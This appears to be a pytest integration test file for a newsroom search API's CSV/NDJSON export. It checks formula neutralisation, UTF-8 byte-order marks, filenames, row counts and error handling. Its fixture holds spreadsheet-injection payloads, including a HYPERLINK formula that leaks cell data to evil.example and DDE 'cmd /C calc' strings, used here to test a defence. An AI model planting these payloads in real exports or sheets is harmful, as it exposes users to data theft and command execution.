"""Export against a real node: spreadsheet-safe CSV that Excel reads as UTF-8, a file named
after the search, a count from the export's own snapshot, and errors that are answers."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator

import pytest
from fastapi.testclient import TestClient
from opensearchpy import OpenSearch

from search.app import create_app
from search.index import schema
from search.settings import Settings
from tests.integration.test_cursor_paging import article, pits_on, put

pytestmark = pytest.mark.integration

PROBLEM_JSON = "application/problem+json"
HOSTILE_TITLES = {
    "doc-0001": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "doc-0002": "+cmd|' /C calc'!A0",
    "doc-0003": "-2+3+cmd|' /C calc'!A0",
    "doc-0004": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
def api(settings: Settings, os_client: OpenSearch) -> Iterator[TestClient]:
    schema.ensure_index(os_client, settings.index)
    docs = [article(n, title=HOSTILE_TITLES.get(f"doc-{n:04d}")) for n in range(1, 40)]
    docs.append(
        article(100, title="Sinn Féin wins the harbour seat", persons=["Mary Lou McDonald"])
    )
    docs.append(article(101, title="김정은 visits the harbour", persons=["=Kim Jong Un"]))
    put(os_client, settings.index, docs)
    with TestClient(create_app(settings), raise_server_exceptions=False) as client:
        yield client


def _rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def test_formula_like_cells_are_neutralised(api: TestClient) -> None:
    response = api.get("/v1/search/export", params={"q": "harbour"})
    assert response.status_code == 200
    titles = {row["id"]: row["title"] for row in _rows(response.content)}
    for doc_id, title in HOSTILE_TITLES.items():
        assert titles[doc_id] == "'" + title
    persons = {row["id"]: row["persons"] for row in _rows(response.content)}
    assert persons["doc-0101"] == "'=Kim Jong Un"
    assert titles["doc-0100"] == "Sinn Féin wins the harbour seat"
    ndjson = api.get("/v1/search/export", params={"q": "harbour", "format": "ndjson"})
    raw = {json.loads(line)["id"]: json.loads(line)["title"] for line in ndjson.text.splitlines()}
    assert raw["doc-0001"] == HOSTILE_TITLES["doc-0001"]  # NDJSON is data, not a sheet


def test_csv_starts_with_a_byte_order_mark_and_keeps_every_script(api: TestClient) -> None:
    response = api.get("/v1/search/export", params={"q": "harbour"})
    assert response.content.startswith(b"\xef\xbb\xbfid,published_at,")
    titles = {row["title"] for row in _rows(response.content)}
    assert {"Sinn Féin wins the harbour seat", "김정은 visits the harbour"} <= titles
    ndjson = api.get("/v1/search/export", params={"q": "harbour", "format": "ndjson"})
    assert not ndjson.content.startswith(b"\xef\xbb\xbf")


def test_the_file_is_named_after_the_query(api: TestClient) -> None:
    response = api.get("/v1/search/export", params={"q": '"Sinn Féin"', "format": "ndjson"})
    disposition = response.headers["content-disposition"]
    assert disposition == 'attachment; filename="newsroom-sinn-fein.ndjson"'
    assert response.headers["content-type"].startswith("application/x-ndjson")


def test_the_count_is_the_rows_of_the_export(api: TestClient) -> None:
    response = api.get("/v1/search/export", params={"q": "harbour", "source": "Port Wire"})
    rows = _rows(response.content)
    assert rows
    assert {row["source"] for row in rows} == {"Port Wire"}
    assert int(response.headers["x-total-count"]) == len(rows)
    assert int(response.headers["x-export-rows"]) == len(rows)


def test_a_failure_before_the_first_row_is_a_problem_not_a_truncated_200(
    api: TestClient, settings: Settings, os_client: OpenSearch
) -> None:
    """Counting still works but reading a batch fails (the node allows smaller pages than an
    export batch): the export answers with a problem, and its point in time is closed."""
    os_client.indices.put_settings(index=settings.index, body={"index": {"max_result_window": 5}})
    response = api.get("/v1/search/export", params={"q": "harbour"})
    assert response.status_code != 200
    assert response.headers["content-type"].startswith(PROBLEM_JSON)
    assert "result window" in response.json()["detail"].lower()
    assert pits_on(os_client, settings.index) == []


def test_an_export_under_a_row_cap_says_how_many_it_sends(
    settings: Settings, os_client: OpenSearch
) -> None:
    schema.ensure_index(os_client, settings.index)
    put(os_client, settings.index, [article(n) for n in range(30)])
    capped = settings.model_copy(update={"export_max_rows": 7})
    with TestClient(create_app(capped), raise_server_exceptions=False) as client:
        response = client.get("/v1/search/export", params={"q": "harbour"})
    assert len(_rows(response.content)) == 7
    assert response.headers["x-total-count"] == "30"
    assert response.headers["x-export-rows"] == "7"
    assert pits_on(os_client, settings.index) == []
